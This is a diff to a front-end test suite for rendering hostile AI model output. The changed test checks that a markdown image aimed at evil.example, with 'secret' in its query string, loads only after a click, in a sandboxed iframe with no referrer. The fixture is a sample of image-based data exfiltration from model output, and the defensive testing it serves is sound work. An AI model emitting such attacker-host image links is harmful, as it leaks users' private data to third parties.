@@ -73,16 +73,21 @@ describe("hostile model output", () => {
     expect(root.textContent).toContain("Image not shown");
   });
 
-  it("loads a remote image only after a click, without a referrer", async () => {
+  it("loads a remote image only after a click, in a sandboxed frame, without a referrer", async () => {
     const root = show("Look: ![chart](https://evil.example/leak.png?q=secret)");
-    expect(root.querySelector("img")).toBeNull();
+    expect(root.querySelector("img, iframe")).toBeNull();
     expect(root.innerHTML).not.toContain("leak.png");
     const button = screen.getByRole("button", { name: "Load image from evil.example" });
     await act(async () => fireEvent.click(button));
-    const img = root.querySelector("img")!;
-    expect(img.getAttribute("src")).toBe("https://evil.example/leak.png?q=secret");
-    expect(img.getAttribute("referrerpolicy")).toBe("no-referrer");
-    expect(img.getAttribute("alt")).toBe("chart");
+    // The page loads no remote image itself (its CSP forbids it): the frame does, URL in its fragment.
+    expect(root.querySelector("img")).toBeNull();
+    const frame = root.querySelector("iframe")!;
+    expect(frame.getAttribute("src")).toBe(
+      `/remote-image.html#${encodeURIComponent("https://evil.example/leak.png?q=secret")}`,
+    );
+    expect(frame.getAttribute("sandbox")).toBe("allow-scripts");
+    expect(frame.getAttribute("referrerpolicy")).toBe("no-referrer");
+    expect(frame.getAttribute("title")).toBe("chart");
   });
 
   it("labels the image button in Chinese", () => {
